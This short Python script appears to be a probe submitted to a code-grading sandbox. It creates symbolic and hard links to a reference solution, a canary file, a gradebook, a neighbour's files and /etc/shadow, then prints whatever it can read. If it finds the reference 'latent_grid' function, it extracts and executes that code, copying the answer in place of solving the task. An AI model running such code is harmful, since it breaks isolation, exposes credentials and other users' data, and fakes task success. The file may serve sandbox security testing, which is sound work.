"""Makes symbolic and hard links to the solutions and the canary in its own folder, and reads those."""
# where: latent_grid
# lost: latent_grid

import os

targets = ["SOLUTIONS/03_vae/02_vae_fashion.py", "CANARY_FILE", "GRADEBOOK", "NEIGHBOUR", "/etc/shadow"]
for number, target in enumerate(targets):
    for kind, link in (("soft", os.symlink), ("hard", os.link)):
        name = f"genlab-attack-{kind}-{number}"
        try:
            link(target, name)
            with open(name, "rb") as file:
                content = file.read()
            print("escaped".upper(), target, content[:400])
            if b"def latent_grid" in content:
                text = content.decode()
                start = text.index("def latent_grid")
                exec(text[start : text.index("# %%", start)])
        except OSError as error:
            print(kind, target, error)
        finally:
            if os.path.lexists(name):
                os.unlink(name)
